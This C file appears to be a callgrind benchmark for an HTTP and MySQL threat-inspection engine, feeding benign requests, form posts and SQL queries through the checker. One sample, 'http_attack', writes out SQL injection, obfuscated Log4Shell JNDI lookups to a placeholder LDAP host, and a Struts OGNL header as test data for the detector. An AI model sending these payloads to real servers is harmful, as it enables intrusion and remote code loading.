// SPDX-License-Identifier: GPL-2.0
/*
 * The cost of the HTTP and SQL payload checks: feeds one sample REPS times
 * through its checker on one flow (requests one after another, as on a
 * keep-alive connection; queries after one login) inside bench_run(),
 * which run.sh has callgrind count.
 *
 *   bench --list     each sample: name, bytes, what it is
 *   bench NAME       runs one sample
 */

#include "threat/threat.h"

#include <stdint.h>
#include <stdio.h>
#include <string.h>

#define REPS 100

struct sample {
	const char *name;
	const char *what;
	u8 app;
	u32 len;
	u8 data[16384];
};

static struct sample samples[7];
static unsigned int count;

static struct sample *add(const char *name, const char *what, u8 app)
{
	struct sample *x = &samples[count++];

	x->name = name;
	x->what = what;
	x->app = app;
	return x;
}

static void text(struct sample *x, const char *s)
{
	x->len += snprintf((char *)x->data + x->len, sizeof(x->data) - x->len, "%s", s);
}

/* A form body of @size bytes, the kind a sign-up or a search form sends. */
static void form(struct sample *x, const char *name, unsigned int size)
{
	char head[256], body[9000];
	unsigned int len = 0, i = 0;

	while (len < size) {
		len += snprintf(body + len, sizeof(body) - len, "%sfield%u=%s", i ? "&" : "", i,
				"Jane+O%27Connor%2C+12+rue+de+la+Paix%2C+Paris");
		i++;
	}
	body[size] = 0;
	snprintf(head, sizeof(head),
		 "POST /account/%s HTTP/1.1\r\nHost: shop.example.org\r\n"
		 "User-Agent: curl/7.88.1\r\nAccept: */*\r\nContent-Length: %u\r\n"
		 "Content-Type: application/x-www-form-urlencoded\r\n\r\n", name, size);
	text(x, head);
	text(x, body);
}

static void query(struct sample *x, const char *sql, unsigned int size)
{
	u32 len = strlen(sql) + 1;

	while (len < size) {
		memcpy(x->data + 4 + len, " OR id = 123456", 15);
		len += 15;
	}
	x->data[0] = len;
	x->data[1] = len >> 8;
	x->data[2] = len >> 16;
	x->data[3] = 0;
	x->data[4] = 0x03;	/* COM_QUERY */
	memcpy(x->data + 5, sql, strlen(sql));
	x->len = 4 + len;
}

static void build(void)
{
	text(add("http_curl_get", "curl's GET", CW_APP_HTTP),
	     "GET /index.html?q=1 HTTP/1.1\r\nHost: 127.0.0.1:47080\r\n"
	     "User-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n");
	text(add("http_browser_get", "Firefox's GET, 10 headers", CW_APP_HTTP),
	     "GET /shop/items?category=books&sort=price&order=asc&page=2 HTTP/1.1\r\n"
	     "Host: shop.example.org\r\n"
	     "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 "
	     "Firefox/115.0\r\n"
	     "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,"
	     "image/webp,*/*;q=0.8\r\n"
	     "Accept-Language: en-US,en;q=0.5\r\n"
	     "Accept-Encoding: gzip, deflate, br\r\n"
	     "Referer: https://shop.example.org/shop/\r\n"
	     "Connection: keep-alive\r\n"
	     "Cookie: session=8f2a9c41d0b7e6f5; theme=dark; consent=1\r\n"
	     "Upgrade-Insecure-Requests: 1\r\n"
	     "Sec-Fetch-Dest: document\r\n\r\n");
	form(add("http_post_1k", "form POST, 1 KiB body", CW_APP_HTTP), "update", 1024);
	form(add("http_post_8k", "form POST, 8 KiB body", CW_APP_HTTP), "import", 8192);
	text(add("http_attack", "SQL injection and log4shell", CW_APP_HTTP),
	     "GET /item?id=1%27%20union%20select%20null,version()--&x=%24%7Bjndi:ldap://x/a%7D "
	     "HTTP/1.1\r\nHost: shop.example.org\r\nUser-Agent: ${${lower:j}ndi:ldap://x/a}\r\n"
	     "Content-Type: %{(#_='multipart/form-data')}\r\n\r\n");
	query(add("mysql_query_short", "COM_QUERY, short", CW_APP_MYSQL),
	      "SELECT id, name, price FROM items WHERE category = 'books' ORDER BY price LIMIT 20",
	      0);
	query(add("mysql_query_4k", "COM_QUERY, 4 KiB", CW_APP_MYSQL),
	      "SELECT id, name FROM items WHERE id = 1", 4096);
}

/* MySQL: a login, so that the samples are queries. */
static void mysql_login(struct cw_threat_scan *s, const struct cw_threat_limits *limits)
{
	static const u8 greeting[] = "\x0b\x00\x00\x00\x0a" "8.0.36\x00\x01\x02\x03";
	static const u8 response[] = "\x08\x00\x00\x01\x8d\xa2\x0a\x00\x00\x00\x00\x01";
	static const u8 ok[] = "\x07\x00\x00\x02\x00\x00\x00\x02\x00\x00\x00";

	cw_threat_scan(s, limits, false, greeting, sizeof(greeting) - 1, 0, UINT32_MAX);
	cw_threat_scan(s, limits, true, response, sizeof(response) - 1, 0, UINT32_MAX);
	cw_threat_scan(s, limits, false, ok, sizeof(ok) - 1, 0, UINT32_MAX);
}

static volatile u64 found;

/* What callgrind counts (run.sh: --toggle-collect=bench_run). */
static void __attribute__((noinline)) bench_run(struct cw_threat_scan *s,
						 const struct cw_threat_limits *limits,
						 const struct sample *x)
{
	unsigned int i;

	for (i = 0; i < REPS; i++)
		found |= cw_threat_scan(s, limits, true, x->data, x->len, i, UINT32_MAX);
}

int main(int argc, char **argv)
{
	struct cw_threat_limits limits;
	struct cw_threat_scan s;
	unsigned int i;

	build();
	if (argc == 2 && !strcmp(argv[1], "--list")) {
		printf("reps %u\n", REPS);
		for (i = 0; i < count; i++)
			printf("%s %u %s\n", samples[i].name, samples[i].len, samples[i].what);
		return 0;
	}
	for (i = 0; argc == 2 && i < count; i++)
		if (!strcmp(argv[1], samples[i].name))
			break;
	if (argc != 2 || i == count) {
		fprintf(stderr, "usage: bench --list | bench NAME\n");
		return 2;
	}
	cw_threat_http_init();
	cw_threat_default_limits(&limits);
	cw_threat_scan_init(&s, samples[i].app);
	if (samples[i].app == CW_APP_MYSQL)
		mysql_login(&s, &limits);
	bench_run(&s, &limits, &samples[i]);
	/* A sample that ended the checks would measure nothing. */
	if (s.done) {
		fprintf(stderr, "bench: %s: the checker stopped\n", samples[i].name);
		return 1;
	}
	return 0;
}
